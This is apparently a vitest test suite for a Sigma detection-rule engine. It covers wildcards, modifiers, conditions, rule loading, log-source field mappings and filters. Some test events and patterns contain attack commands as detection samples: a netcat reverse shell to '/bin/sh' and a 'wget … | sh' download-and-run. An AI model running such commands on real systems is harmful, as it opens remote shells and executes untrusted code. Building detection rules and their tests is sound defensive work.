import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { UserInputError } from '../../../src/core/errors.js';
import {
  compileRule,
  compileWildcard,
  EventView,
  loadSigmaFiles,
  parseSigmaText,
  SigmaEngine,
  type SigmaRule,
} from '../../../src/watch/rules/sigma/index.js';

const fixtures = new URL('../../fixtures/watch/sigma/matching/', import.meta.url);
const load = (name: string) => JSON.parse(readFileSync(new URL(name, fixtures), 'utf8'));
const shipped = fileURLToPath(new URL('../../../rules/sigma/', import.meta.url));

function engineFor(yaml: string, options = {}): SigmaEngine {
  const e = new SigmaEngine(options);
  for (const r of parseSigmaText(yaml)) if (r.kind === 'detection') e.add(r);
  return e;
}

function itemRule(key: string, values: unknown): SigmaRule {
  return {
    kind: 'detection',
    title: 'item',
    tags: [],
    logsource: {},
    detection: { sel: { [key]: values } },
    conditions: ['sel'],
  };
}

describe('sigma: wildcard primitive (sigma-rust src/wildcard.rs, case-sensitive)', () => {
  const cases: Array<{ pattern: string; value: string; match: boolean }> = load('sigma-rust-wildcard.json');
  it('has the 133 upstream cases', () => expect(cases).toHaveLength(133));
  it.each(cases.map((c, i) => [i, c.pattern, c.value, c.match] as const))('#%i %j vs %j -> %s', (_i, p, v, want) => {
    expect(compileWildcard(p, true)(v, v.toLowerCase())).toBe(want);
  });
});

describe('sigma: rule/event cases (sigma-rust tests/matching.rs, tests/json_events.rs)', () => {
  const cases: Array<{ rule_yaml: string; event: unknown; match: boolean; source: string }> =
    load('sigma-rust-rule-event.json');
  it('has the 39 upstream cases', () => expect(cases).toHaveLength(39));
  // sigma-rust reads `field: null` as "present and null"; that is the engine option nullMatchesMissing=false.
  it.each(cases.map((c, i) => [i, c.source, c] as const))('#%i %s', (_i, _s, c) => {
    expect(engineFor(c.rule_yaml, { nullMatchesMissing: false }).evaluate(c.event).length > 0).toBe(c.match);
  });
});

describe('sigma: rsigma engine cases (crates/rsigma-eval/src/engine/tests.rs)', () => {
  const cases: Array<{ rule_yaml: string; event: unknown; match: boolean; match_count: number; source: string }> = load(
    'rsigma-engine-rule-event.json',
  );
  it.each(cases.map((c, i) => [i, c.source, c] as const))('#%i %s', (_i, _s, c) => {
    expect(engineFor(c.rule_yaml).evaluate(c.event)).toHaveLength(c.match_count);
  });
});

describe('sigma: rsigma detection items (crates/rsigma-eval/src/compiler/tests.rs)', () => {
  const cases: Array<{
    detection_item: { field: string; modifiers: string[]; values: unknown[] };
    event: unknown;
    match: boolean;
    source: string;
  }> = load('rsigma-detection-item.json');
  it.each(cases.map((c, i) => [i, c.source, c] as const))('#%i %s', (_i, _s, c) => {
    const d = c.detection_item;
    const compiled = compileRule(itemRule([d.field, ...d.modifiers].join('|'), d.values), null);
    expect(compiled.pred(new EventView(c.event))).toBe(c.match);
  });
});

describe('sigma: modifiers', () => {
  const cases: Array<[string, string, unknown, unknown, boolean]> = [
    ['base64 encodes the value', 'x|base64', 'secret', { x: 'c2VjcmV0' }, true],
    ['base64offset finds the value at offset 0', 'x|base64offset|contains', 'http://', { x: 'zzaHR0cDovLzz' }, true],
    ['base64offset finds the value at offset 1', 'x|base64offset|contains', 'http://', { x: 'IGh0dHA6Ly9' }, true],
    ['base64offset finds the value at offset 2', 'x|base64offset|contains', 'http://', { x: 'ICBodHRwOi8v' }, true],
    ['wide|base64offset encodes UTF-16LE first', 'x|wide|base64offset|contains', 'ping', { x: 'cABpAG4AZwA' }, true],
    ['utf16be|base64 encodes big-endian', 'x|utf16be|base64', 'A', { x: 'AEE=' }, true],
    ['windash accepts a slash for a dash', 'x|windash|contains', ' -enc ', { x: 'powershell /enc abc' }, true],
    ['windash accepts an en dash', 'x|windash|contains', ' -enc ', { x: 'powershell \u2013enc abc' }, true],
    ['contains|all needs every value', 'x|contains|all', ['net', 'user'], { x: 'net localgroup' }, false],
    ['startswith is case-insensitive', 'x|startswith', 'ABC', { x: 'abcdef' }, true],
    ['cased makes it case-sensitive', 'x|startswith|cased', 'ABC', { x: 'abcdef' }, false],
    ['endswith with a wildcard inside', 'x|endswith', 'a?c', { x: 'zzabc' }, true],
    ['escaped star is literal', 'x', 'a\\*b', { x: 'aXb' }, false],
    ['re is case-sensitive', 'x|re', '^Adm', { x: 'admin' }, false],
    ['re|i ignores case', 'x|re|i', '^Adm', { x: 'admin' }, true],
    ['re|m lets ^ match after a newline', 'x|re|m', '^b', { x: 'a\nb' }, true],
    ['re|s lets . match a newline', 'x|re|s', 'a.b', { x: 'a\nb' }, true],
    ['cidr matches IPv6', 'ip|cidr', '2001:db8::/32', { ip: '2001:db8::5' }, true],
    ['lt compares numbers', 'n|lt', 10, { n: '9' }, true],
    ['gte compares numbers', 'n|gte', 10, { n: 9 }, false],
    ['exists false on a missing field', 'x|exists', false, { y: 1 }, true],
    ['fieldref compares two fields', 'a|fieldref', 'b', { a: 'Same', b: 'same' }, true],
    ['fieldref|cased respects case', 'a|fieldref|cased', 'b', { a: 'Same', b: 'same' }, false],
    ['numbers match as text', 'code', 403, { code: '403' }, true],
    ['a list of plain values is OR', 'eventName', ['A', 'B'], { eventName: 'b' }, true],
  ];
  it.each(cases)('%s', (_name, key, values, event, want) => {
    expect(compileRule(itemRule(key, values), null).pred(new EventView(event))).toBe(want);
  });

  it('expand substitutes configured placeholders', () => {
    const rule = itemRule('ip|expand|cidr', '%office%');
    const c = compileRule(rule, null, { placeholders: { office: ['10.0.0.0/8', '192.0.2.0/24'] } });
    expect(c.pred(new EventView({ ip: '192.0.2.7' }))).toBe(true);
    expect(c.pred(new EventView({ ip: '198.51.100.1' }))).toBe(false);
  });
  it('an unconfigured placeholder matches nothing and is reported', () => {
    const c = compileRule(itemRule('country|expand', '%Legit%'), null);
    expect(c.pred(new EventView({ country: '%Legit%' }))).toBe(false);
    expect(c.unresolvedPlaceholders).toEqual(['Legit']);
  });
  it('null matches an absent field by default (SIEM "is null") and not with the sigma-rust option', () => {
    const rule = itemRule('errorCode', null);
    expect(compileRule(rule, null).pred(new EventView({}))).toBe(true);
    expect(compileRule(rule, null, { nullMatchesMissing: false }).pred(new EventView({}))).toBe(false);
    expect(compileRule(rule, null, { nullMatchesMissing: false }).pred(new EventView({ errorCode: null }))).toBe(true);
  });
});

describe('sigma: conditions', () => {
  const rule = (condition: string) => `title: c
logsource: {}
detection:
  sel_a: {a: 1}
  sel_b: {b: 1}
  _hidden: {h: 1}
  filter: {f: 1}
  condition: ${condition}
`;
  const cases: Array<[string, Record<string, number>, boolean]> = [
    ['sel_a and not filter', { a: 1, f: 1 }, false],
    ['sel_a and not filter', { a: 1 }, true],
    ['1 of sel_*', { b: 1 }, true],
    ['all of sel_*', { b: 1 }, false],
    ['all of sel_*', { a: 1, b: 1 }, true],
    ['all of them', { a: 1, b: 1, f: 1 }, true],
    ['(sel_a or sel_b) and filter', { b: 1, f: 1 }, true],
    ['sel_a or sel_b and filter', { a: 1 }, true],
    ['not sel_a and not sel_b', {}, true],
    ['any of sel_*', { a: 1 }, true],
  ];
  it.each(cases)('%s over %j -> %s', (cond, event, want) => {
    expect(engineFor(rule(cond)).evaluate(event).length > 0).toBe(want);
  });
  it('identifiers starting with _ are not part of "them"', () => {
    expect(engineFor(rule('all of them')).evaluate({ a: 1, b: 1, f: 1 })).toHaveLength(1);
  });
  it.each([
    ['sel_a and', /unexpected end/],
    ['sel_x', /unknown identifier/],
    ['sel_a | count() > 5', /aggregation/],
    ['(sel_a', /missing '\)'/],
    ['2 of sel_*', /only "1 of"/],
  ])('refuses %s', (cond, msg) => {
    expect(() => engineFor(rule(cond))).toThrow(msg);
  });
});

describe('sigma: loading', () => {
  it('every shipped SigmaHQ rule (74) loads and compiles', async () => {
    const rules = await loadSigmaFiles([`${shipped}rules`, `${shipped}rules-placeholder`]);
    const detections = rules.filter((r) => r.kind === 'detection');
    expect(detections).toHaveLength(74);
    const e = new SigmaEngine();
    for (const r of detections) e.add(r);
    expect(e.size).toBe(74);
    expect(detections.every((r) => typeof r.author === 'string' && r.author.length > 0)).toBe(true);
  });
  it.each([
    ['no title', 'logsource: {}\ndetection: {sel: {a: 1}, condition: sel}\n', /no title/],
    ['no condition', 'title: t\nlogsource: {}\ndetection: {sel: {a: 1}}\n', /condition/],
    [
      'unknown modifier',
      'title: t\nlogsource: {}\ndetection: {sel: {a|bogus: 1}, condition: sel}\n',
      /unknown modifier/,
    ],
    ['bad YAML', 'title: [\n', /invalid YAML/],
    ['duplicate key', 'title: a\ntitle: b\n', /invalid YAML/],
    ['null in a list', 'title: t\nlogsource: {}\ndetection: {sel: {a: [1, null]}, condition: sel}\n', /null/],
  ])('refuses a rule with %s', (_n, yaml, msg) => {
    expect(() => engineFor(yaml)).toThrow(UserInputError);
    expect(() => engineFor(yaml)).toThrow(msg);
  });
  it('YAML 1.2: yes is a string, not a boolean', () => {
    expect(
      engineFor('title: t\nlogsource: {}\ndetection: {sel: {v: yes}, condition: sel}\n').evaluate({ v: 'yes' }),
    ).toHaveLength(1);
  });
});

describe('sigma: sources and field mappings', () => {
  const ct = `title: ct
logsource: {product: aws, service: cloudtrail}
detection:
  sel: {eventName: DeleteTrail, src_ip|cidr: 10.0.0.0/8}
  condition: sel
`;
  it('a CloudTrail rule runs on CloudTrail events with src_ip mapped to sourceIPAddress', () => {
    const e = engineFor(ct);
    expect(e.evaluate({ eventName: 'DeleteTrail', sourceIPAddress: '10.1.1.1' }, 'aws.cloudtrail')).toHaveLength(1);
  });
  it('a CloudTrail rule does not run on Kubernetes audit events', () => {
    expect(
      engineFor(ct).evaluate({ eventName: 'DeleteTrail', sourceIPAddress: '10.1.1.1' }, 'kubernetes.audit'),
    ).toHaveLength(0);
  });
  it('a linux process_creation rule reads Falco output_fields', () => {
    const e = engineFor(`title: l
logsource: {product: linux, category: process_creation}
detection:
  sel: {Image|endswith: /nc, CommandLine|contains: ' -e '}
  condition: sel
`);
    const falco = {
      rule: 'x',
      output_fields: { 'proc.exepath': '/usr/bin/nc', 'proc.cmdline': 'nc -e /bin/sh 10.0.0.1' },
    };
    expect(e.evaluate(falco, 'falco')).toHaveLength(1);
  });
});

describe('sigma: regular expressions', () => {
  const cases: Array<[string, string, string, boolean]> = [
    [
      'a leading .+ still finds the match on one line',
      '.+:assumed-role/aws:.+',
      'arn:aws:sts::1:assumed-role/aws:x',
      true,
    ],
    ['a leading .+ does not cross a line break', '.+:assumed-role/aws:.+', 'arn\n:assumed-role/aws:x', false],
    ['a leading .* finds a match on a later line', '.*b', 'a\nb', true],
    ['an inline (?i) flag is honoured', '(?i)^ADMIN$', 'admin', true],
  ];
  it.each(cases)('%s', (_n, re, value, want) => {
    expect(compileRule(itemRule('x|re', re), null).pred(new EventView({ x: value }))).toBe(want);
  });
});

describe('sigma: keywords', () => {
  const rule = (list: string) => `title: k\nlogsource: {}\ndetection:\n  keywords: ${list}\n  condition: keywords\n`;
  const cases: Array<[string, string, unknown, boolean]> = [
    [
      'a keyword is found inside a longer value',
      "['Failed password']",
      { message: 'sshd: Failed password for root' },
      true,
    ],
    ['keywords are case-insensitive', "['failed PASSWORD']", { message: 'Failed password' }, true],
    ['a keyword searches nested values', "['evil']", { a: { b: ['x', 'the evil one'] } }, true],
    ['no keyword present', "['evil']", { message: 'good' }, false],
    ['wildcards work inside keywords', "['wget * | sh']", { cmd: 'wget http://x | sh' }, true],
  ];
  it.each(cases)('%s', (_n, list, event, want) => {
    expect(engineFor(rule(list)).evaluate(event).length > 0).toBe(want);
  });
  it("'|all' needs every keyword somewhere in the event", () => {
    const yaml =
      "title: k\nlogsource: {}\ndetection:\n  kw:\n    '|all': ['OabVirtualDirectory', ' -ExternalUrl ']\n  condition: kw\n";
    expect(engineFor(yaml).evaluate({ cmd: 'Set-OabVirtualDirectory -ExternalUrl http://x' })).toHaveLength(1);
    expect(engineFor(yaml).evaluate({ cmd: 'Set-OabVirtualDirectory' })).toHaveLength(0);
  });
});

describe('sigma: filters (spec v2 global filters)', () => {
  it("the specification's example filter parses", () => {
    const [f] = parseSigmaText(readFileSync(new URL('../spec/filter/filter_1.yml', fixtures), 'utf8'));
    expect(f).toMatchObject({
      kind: 'filter',
      title: 'Filter Administrator account',
      rules: ['6f3e2987-db24-4c78-a860-b4f4095a7095', 'df0841c0-9846-4e9f-ad8a-7df91571771b'],
    });
  });
  const rules = `title: Delete trail
id: 11111111-1111-4111-8111-111111111111
name: delete_trail
logsource: {product: aws, service: cloudtrail}
detection:
  sel: {eventName: DeleteTrail}
  condition: sel
---
title: Other
id: 22222222-2222-4222-8222-222222222222
logsource: {product: aws, service: cloudtrail}
detection:
  sel: {eventName: DeleteTrail}
  condition: sel
---
title: Our automation deletes trails from the office
logsource: {product: aws, service: cloudtrail}
filter:
  rules: [delete_trail]
  office:
    src_ip|cidr: 10.0.0.0/8
  condition: office
`;
  const engine = () => {
    const e = new SigmaEngine();
    for (const r of parseSigmaText(rules)) {
      if (r.kind === 'detection') e.add(r);
      else if (r.kind === 'filter') e.addFilter(r);
    }
    return e;
  };
  it('suppresses the named rule when the filter matches (field names mapped for the source)', () => {
    const hits = engine().evaluate({ eventName: 'DeleteTrail', sourceIPAddress: '10.2.3.4' }, 'aws.cloudtrail');
    expect(hits.map((h) => h.title)).toEqual(['Other']);
  });
  it('leaves the rule alone when the filter does not match', () => {
    const hits = engine().evaluate({ eventName: 'DeleteTrail', sourceIPAddress: '198.51.100.1' }, 'aws.cloudtrail');
    expect(hits.map((h) => h.title)).toEqual(['Delete trail', 'Other']);
  });
  it('refuses a filter without rules or condition', () => {
    expect(() => parseSigmaText('title: f\nfilter:\n  sel: {a: 1}\n  condition: sel\n')).toThrow(/filter.rules/);
    expect(() => parseSigmaText('title: f\nfilter:\n  rules: [x]\n  sel: {a: 1}\n')).toThrow(/filter.condition/);
  });
});
